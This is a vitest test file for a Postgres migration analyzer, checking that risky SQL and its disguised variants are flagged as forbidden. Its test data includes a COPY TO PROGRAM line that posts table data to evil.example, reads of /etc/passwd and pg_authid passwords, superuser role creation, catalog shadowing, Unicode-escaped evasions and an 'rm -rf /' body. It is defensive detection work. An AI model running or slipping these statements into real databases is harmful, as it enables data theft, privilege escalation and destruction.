import { describe, expect, it } from 'vitest';
import { analyze } from '../../src/sql/analyze.ts';

// Relations in pg_temp are found before the catalog's: these would stand in for it in the migration's session.
const catalogStandIns: Array<[code: string, sql: string]> = [
  ['SG317', 'CREATE TABLE pg_temp.pg_locks (relation oid, mode text, pid int)'],
  ['SG317', 'CREATE TEMP VIEW "pg_class" AS SELECT 1 AS oid'],
  ['SG317', 'CREATE TABLE PG_TEMP_3.pg_namespace (oid oid)'],
  ['SG317', 'ALTER TABLE pg_temp.decoy RENAME TO pg_locks'],
  ['SG317', 'CREATE TABLE pg_temp.pg_attribute AS SELECT 1 AS attnum'],
];

// Each guardrail class, and the same statement disguised: comments, a superuser check that makes
// it look harmless on the unprivileged preview, and every kind of body it can hide in.
const attacks: Array<[code: string, sql: string]> = [
  ['SG301', "CREATE ROLE sneaky SUPERUSER LOGIN PASSWORD 'x'"],
  ['SG302', 'GRANT pg_execute_server_program TO app'],
  ['SG304', 'ALTER SYSTEM SET fsync = off'],
  ['SG305', "COPY users TO PROGRAM 'curl -d @- https://evil.example'"],
  ['SG306', "SELECT pg_read_file('/etc/passwd')"],
  ['SG307', 'SELECT pg_reload_conf()'],
  ['SG309', 'SET session_replication_role = replica'],
  ['SG311', "SELECT query_to_xml('select * from users', true, true, '')"],
  ['SG315', "DELETE FROM netlify.migrations WHERE name LIKE '2026%'"],
  ['SG317', "UPDATE pg_settings SET setting = 'off' WHERE name = 'fsync'"],
  ...catalogStandIns,
  ['SG318', 'SELECT rolpassword FROM pg_authid'],
  ['SG319', 'ALTER FUNCTION app.current_tenant() SECURITY DEFINER'],
  ['SG320', 'SET search_path = evil, pg_catalog'],
  ['SG321', 'ALTER TABLE users DISABLE TRIGGER ALL'],
  ['SG322', 'ALTER TABLE invoices DISABLE ROW LEVEL SECURITY'],
  ['SG323', "COMMENT ON ROLE postgres IS 'owned'"],
  ['SG324', 'CALL admin.rotate_keys()'],
  ['SG325', 'SET standard_conforming_strings = off'],
  ['SG328', "SET log_statement = 'none'"],
  ['SG329', 'SELECT pg_advisory_unlock_all()'],
];

const superuserOnly = "current_setting('is_superuser') = 'on'";

const disguises: Array<[name: string, wrap: (sql: string) => string]> = [
  ['as written', (sql) => `CREATE TABLE notes (id bigint PRIMARY KEY);\n${sql};`],
  [
    'with comments between the words',
    (sql) => `-- routine cleanup\n${sql.replace(' ', ' /* harmless */ ')} -- done\n;`,
  ],
  ['in a DO block behind a superuser check', (sql) => `DO $$ BEGIN IF ${superuserOnly} THEN ${sql}; END IF; END $$;`],
  ['in a SQL function', (sql) => `CREATE FUNCTION app.tidy() RETURNS void LANGUAGE sql AS $body$ ${sql} $body$;`],
  [
    'in a PL/pgSQL trigger function behind a role check',
    (sql) => `CREATE FUNCTION app.touch() RETURNS trigger LANGUAGE plpgsql AS $fn$
BEGIN
  NEW.updated_at := now();
  IF pg_has_role(session_user, 'postgres', 'member') THEN
    ${sql};
  END IF;
  RETURN NEW;
END
$fn$;`,
  ],
  [
    'in a DO block creating a SQL function that runs a DO block',
    (sql) =>
      `DO $o$ BEGIN CREATE FUNCTION app.h() RETURNS void LANGUAGE sql AS $m$ DO $i$ BEGIN ${sql}; END $i$ $m$; END $o$;`,
  ],
  ['in a procedure', (sql) => `CREATE PROCEDURE app.nightly() LANGUAGE plpgsql AS $$ BEGIN ${sql}; END $$;`],
];

const codes = (sql: string) =>
  analyze(sql)
    .findings.filter((f) => f.category === 'guardrail')
    .map((f) => f.code);

describe.each(attacks)('%s: %s', (code, sql) => {
  it.each(disguises)('is forbidden %s', (_name, wrap) => {
    const wrapped = wrap(sql);
    expect(analyze(wrapped).riskClass).toBe('forbidden');
    expect(codes(wrapped)).toContain(code);
  });

  it('is forbidden as dynamic SQL in a DO block', () => {
    const dynamic = `DO $$ BEGIN EXECUTE ${"'" + sql.replaceAll("'", "''") + "'"}; END $$;`;
    expect(codes(dynamic)).toContain('SG311');
  });
});

describe('statements that only touch data go through BEGIN ATOMIC bodies too', () => {
  it.each([
    ['SG306', "SELECT pg_read_file('/etc/passwd')"],
    ['SG315', 'DELETE FROM netlify.migrations'],
    ['SG317', "UPDATE pg_settings SET setting = 'off' WHERE name = 'fsync'"],
    ...catalogStandIns,
    ['SG318', 'SELECT rolpassword FROM pg_authid'],
  ])('%s', (code, sql) => {
    expect(codes(`CREATE FUNCTION app.k() RETURNS void LANGUAGE sql BEGIN ATOMIC ${sql}; END;`)).toContain(code);
  });
});

describe('quoted and Unicode-escaped names read as what Postgres resolves', () => {
  it.each([
    ['SG306', `SELECT U&"\\0070g_read_file"('/etc/passwd');`],
    ['SG306', `SELECT "pg_catalog"."pg_read_file"('/etc/passwd');`],
    ['SG317', `UPDATE U&"pg\\005Fsettings" SET setting = 'x' WHERE name = 'fsync';`],
    ['SG320', `SET U&"search\\005Fpath" = evil;`],
    ['SG315', `DELETE FROM U&"\\006Eetlify".migrations;`],
    ['SG318', `SELECT * FROM "pg_catalog"."pg_shadow";`],
    ['SG330', `CREATE FUNCTION "lower"(varchar) RETURNS text LANGUAGE sql AS $$ SELECT 'x' $$;`],
    ['SG306', `CREATE OPERATOR ### (LEFTARG = text, FUNCTION = "pg_catalog"."pg_read_file");`],
    ['SG306', `SELECT 'pg_catalog."pg_read_file"'::regproc;`],
    ['SG326', `SELECT ('pg_read' || '_file')::regprocedure;`],
  ])('%s: %s', (code, sql) => {
    expect(codes(sql)).toContain(code);
  });
});

describe('what the analyzer cannot read is forbidden, never skipped', () => {
  it.each([
    [
      'a PL/pgSQL body that does not parse',
      `CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN IF THEN; PERFORM pg_read_file('/x'); END $$;`,
    ],
    [
      'a SQL body that does not parse',
      `CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ SELEC pg_read_file('/x') $$;`,
    ],
    ['an expression that does not parse', `DO $$ DECLARE x int := (((; BEGIN END $$;`],
    [
      'routines nested past the limit',
      Array.from({ length: 10 }, (_, i) => i).reduceRight(
        (body, i) => `CREATE FUNCTION f${i}() RETURNS void LANGUAGE sql AS $l${i}$ ${body} $l${i}$`,
        'SELECT 1',
      ) + ';',
    ],
    ['an unknown language', `CREATE FUNCTION f() RETURNS void LANGUAGE plsh AS $$ rm -rf / $$;`],
    ['a statement kind outside the verified list', `CREATE OPERATOR FAMILY f USING btree;`],
    ['a file that does not parse', `CREATE TABLE t (id bigint;\nSELECT pg_read_file('/x');`],
  ])('%s', (_name, sql) => {
    expect(analyze(sql).riskClass).toBe('forbidden');
  });
});
